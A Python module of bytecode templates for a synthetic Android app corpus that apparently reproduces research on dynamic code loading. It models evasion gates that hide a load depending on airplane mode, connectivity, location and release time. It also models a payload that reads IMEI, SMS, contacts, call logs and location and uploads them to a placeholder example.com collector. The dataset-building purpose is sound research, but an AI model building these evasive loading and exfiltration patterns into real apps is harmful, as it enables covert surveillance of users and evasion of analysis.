"""Bytecode behavior templates used by the corpus generator.

Each template emits the mini-DEX idiom a real app would compile to:
asset-copy-then-load, download-then-load, environment-gated loading (the
logic bombs of Table VIII), JNI loads, reflection use, privacy-leaking
payload bodies, and the vulnerable load patterns of Table IX.

Templates write into a :class:`MethodBuilder` and record any out-of-band
needs (assets, remote resources, companion apps) on the
:class:`BehaviorContext`.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.android import bytecode as bc
from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.bytecode import Cmp
from repro.android.dex import DexFile
from repro.android.nativelib import NativeLibrary

#: register index of the Context/Activity parameter in our callbacks.
CTX = 0


@dataclass(frozen=True)
class EnvGates:
    """Which Table VIII logic-bomb conditions guard a load."""

    system_time: bool = False          # hide before the release date
    airplane_flag: bool = False        # hide whenever airplane mode is set
    connectivity: bool = False         # hide without any connectivity
    location: bool = False             # hide when location is disabled

    @property
    def any(self) -> bool:
        return self.system_time or self.airplane_flag or self.connectivity or self.location


@dataclass
class BehaviorContext:
    """Out-of-band artifacts a template needs shipped with the app."""

    rng: random.Random
    package: str
    release_time_ms: int = 0
    assets: Dict[str, bytes] = field(default_factory=dict)
    remote_resources: Dict[str, bytes] = field(default_factory=dict)
    companions: List[Apk] = field(default_factory=list)
    native_libs: List[NativeLibrary] = field(default_factory=list)


# ---------------------------------------------------------------------------
# environment gating


def emit_env_gates(b: MethodBuilder, gates: EnvGates, release_time_ms: int, skip: str) -> None:
    """Emit guards that jump to ``skip`` when a hide-condition holds."""
    if gates.system_time:
        now = b.call_static("java.lang.System", "currentTimeMillis")
        threshold = b.new_int(release_time_ms)
        b.if_cmp(Cmp.LT, now, threshold, skip)
    if gates.airplane_flag:
        resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(CTX))
        flag = b.call_static(
            "android.provider.Settings$System", "getString", resolver, b.new_string("airplane_mode_on")
        )
        is_on = b.call_static("java.lang.String", "equals", flag, b.new_string("1"))
        b.if_nez(is_on, skip)
    if gates.connectivity:
        cm = b.call_virtual(
            "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("connectivity")
        )
        info = b.call_virtual("android.net.ConnectivityManager", "getActiveNetworkInfo", cm)
        b.if_eqz(info, skip)
    if gates.location:
        lm = b.call_virtual(
            "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("location")
        )
        enabled = b.call_virtual(
            "android.location.LocationManager", "isProviderEnabled", lm, b.new_string("gps")
        )
        b.if_eqz(enabled, skip)


# ---------------------------------------------------------------------------
# byte-moving helpers


def emit_stream_copy_to_file(b: MethodBuilder, stream_reg: int, dest_path: str) -> None:
    """read(stream, buf); write(fos, buf) -- the Table I flow chain."""
    size = b.new_int(1 << 20)
    buf = b.reg()
    b.emit(bc.Instruction(bc.Op.NEW_ARRAY, (buf, size)))
    b.call_virtual("java.io.InputStream", "read", stream_reg, buf)
    out = b.new_instance_of("java.io.FileOutputStream", b.new_string(dest_path))
    b.call_void("java.io.OutputStream", "write", out, buf)
    b.call_void("java.io.OutputStream", "close", out)


def emit_asset_to_file(b: MethodBuilder, asset_name: str, dest_path: str) -> None:
    assets = b.call_virtual("android.content.Context", "getAssets", b.arg(CTX))
    stream = b.call_virtual(
        "android.content.res.AssetManager", "open", assets, b.new_string(asset_name)
    )
    emit_stream_copy_to_file(b, stream, dest_path)


def emit_download_to_file(b: MethodBuilder, url: str, dest_path: str) -> None:
    url_obj = b.new_instance_of("java.net.URL", b.new_string(url))
    conn = b.call_virtual("java.net.URL", "openConnection", url_obj)
    stream = b.call_virtual("java.net.URLConnection", "getInputStream", conn)
    emit_stream_copy_to_file(b, stream, dest_path)


def emit_dex_load(
    b: MethodBuilder,
    dex_path: str,
    odex_dir: str,
    entry_class: Optional[str] = None,
    entry_method: str = "run",
    loader_kind: str = "dalvik.system.DexClassLoader",
    delete_after: bool = False,
) -> None:
    """Construct a class loader on ``dex_path`` and optionally run an entry."""
    path_reg = b.new_string(dex_path)
    null = b.new_null()
    if loader_kind.endswith("PathClassLoader"):
        loader = b.new_instance_of(loader_kind, path_reg, null)
    else:
        loader = b.new_instance_of(loader_kind, path_reg, b.new_string(odex_dir), null, null)
    if entry_class is not None:
        cls = b.call_virtual(
            "java.lang.ClassLoader", "loadClass", loader, b.new_string(entry_class)
        )
        instance = b.call_virtual("java.lang.Class", "newInstance", cls)
        b.call_void(entry_class, entry_method, instance, b.arg(CTX))
    if delete_after:
        file_obj = b.new_instance_of("java.io.File", path_reg)
        b.call_virtual("java.io.File", "delete", file_obj)


def emit_native_load_library(b: MethodBuilder, short_name: str) -> None:
    b.call_void("java.lang.System", "loadLibrary", b.new_string(short_name))


def emit_native_load_path(b: MethodBuilder, lib_path: str) -> None:
    runtime = b.call_static("java.lang.Runtime", "getRuntime")
    b.call_void("java.lang.Runtime", "load", runtime, b.new_string(lib_path))


def emit_reflection_use(b: MethodBuilder, class_name: str) -> None:
    """A java.lang.reflect usage (Table VI reflection row)."""
    cls = b.call_static("java.lang.Class", "forName", b.new_string(class_name))
    method = b.call_virtual("java.lang.Class", "getMethod", cls, b.new_string("toString"))
    b.call_void("java.lang.reflect.Method", "invoke", method, b.new_null())


# ---------------------------------------------------------------------------
# privacy payloads (what the loaded code does -- Table X)

SourceEmitter = Callable[[MethodBuilder], int]


def _src_location(b: MethodBuilder) -> int:
    lm = b.call_virtual(
        "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("location")
    )
    return b.call_virtual(
        "android.location.LocationManager", "getLastKnownLocation", lm, b.new_string("gps")
    )


def _telephony(b: MethodBuilder, getter: str) -> int:
    tm = b.call_virtual(
        "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("phone")
    )
    return b.call_virtual("android.telephony.TelephonyManager", getter, tm)


def _src_accounts(b: MethodBuilder) -> int:
    am = b.call_virtual(
        "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("account")
    )
    return b.call_virtual("android.accounts.AccountManager", "getAccounts", am)


def _pm(b: MethodBuilder, getter: str) -> int:
    pm = b.call_virtual("android.content.Context", "getPackageManager", b.arg(CTX))
    return b.call_virtual("android.content.pm.PackageManager", getter, pm, b.new_int(0))


def _provider_query(b: MethodBuilder, uri_class: str, uri_field: str) -> int:
    resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(CTX))
    uri = b.get_static(uri_class, uri_field)
    cursor = b.call_virtual("android.content.ContentResolver", "query", resolver, uri)
    b.call_virtual("android.database.Cursor", "moveToNext", cursor)
    value = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
    b.call_void("android.database.Cursor", "close", cursor)
    return value


def _src_settings(b: MethodBuilder) -> int:
    resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(CTX))
    return b.call_static(
        "android.provider.Settings$Secure", "getString", resolver, b.new_string("android_id")
    )


#: Table X data type -> emitter producing the tainted register.
SOURCE_EMITTERS: Dict[str, SourceEmitter] = {
    "Location": _src_location,
    "IMEI": lambda b: _telephony(b, "getDeviceId"),
    "IMSI": lambda b: _telephony(b, "getSubscriberId"),
    "ICCID": lambda b: _telephony(b, "getSimSerialNumber"),
    "Phone number": lambda b: _telephony(b, "getLine1Number"),
    "Account": _src_accounts,
    "Installed applications": lambda b: _pm(b, "getInstalledApplications"),
    "Installed packages": lambda b: _pm(b, "getInstalledPackages"),
    "Contact": lambda b: _provider_query(b, "android.provider.ContactsContract$Contacts", "CONTENT_URI"),
    "Calendar": lambda b: _provider_query(b, "android.provider.CalendarContract$Events", "CONTENT_URI"),
    "CallLog": lambda b: _provider_query(b, "android.provider.CallLog$Calls", "CONTENT_URI"),
    "Browser": lambda b: _provider_query(b, "android.provider.Browser", "BOOKMARKS_URI"),
    "Audio": lambda b: _provider_query(b, "android.provider.MediaStore$Audio", "CONTENT_URI"),
    "Image": lambda b: _provider_query(b, "android.provider.MediaStore$Images", "CONTENT_URI"),
    "Video": lambda b: _provider_query(b, "android.provider.MediaStore$Video", "CONTENT_URI"),
    "Settings": _src_settings,
    "MMS": lambda b: _provider_query(b, "android.provider.Telephony$Mms", "CONTENT_URI"),
    "SMS": lambda b: _provider_query(b, "android.provider.Telephony$Sms", "CONTENT_URI"),
}


def extract_url_constants(dex: DexFile) -> List[str]:
    """Every http(s) string constant in a DEX -- the URLs its code may hit."""
    urls: List[str] = []
    for method in dex.iter_methods():
        for insn in method.instructions:
            if insn.op.name == "CONST" and isinstance(insn.args[1], str):
                literal = insn.args[1]
                if literal.startswith(("http://", "https://")):
                    urls.append(literal)
    return urls


def privacy_payload_dex(
    rng: random.Random,
    vendor_package: str,
    leak_types: List[str],
    collector_url: Optional[str] = None,
) -> DexFile:
    """A loadable SDK payload that reads the given data types and uploads.

    The payload entry is ``<vendor_package>.Collector.run(ctx)``.
    """
    class_name = "{}.Collector".format(vendor_package)
    cls = class_builder(class_name)
    init = MethodBuilder("<init>", class_name, arity=1)
    init.ret_void()
    cls.add_method(init.build())

    b = MethodBuilder("run", class_name, arity=1)
    url = collector_url or "http://telemetry-{}.example.com/collect".format(rng.randint(1, 9999))
    url_obj = b.new_instance_of("java.net.URL", b.new_string(url))
    conn = b.call_virtual("java.net.URL", "openConnection", url_obj)
    for data_type in leak_types:
        emitter = SOURCE_EMITTERS.get(data_type)
        if emitter is None:
            raise KeyError("unknown Table X data type {!r}".format(data_type))
        value = emitter(b)
        b.call_void(
            "java.net.URLConnection", "setRequestProperty",
            conn, b.new_string(data_type.lower().replace(" ", "-")), value,
        )
    b.ret_void()
    cls.add_method(b.build())
    return DexFile(classes=[cls], source_name="{}.jar".format(vendor_package.split(".")[-1]))
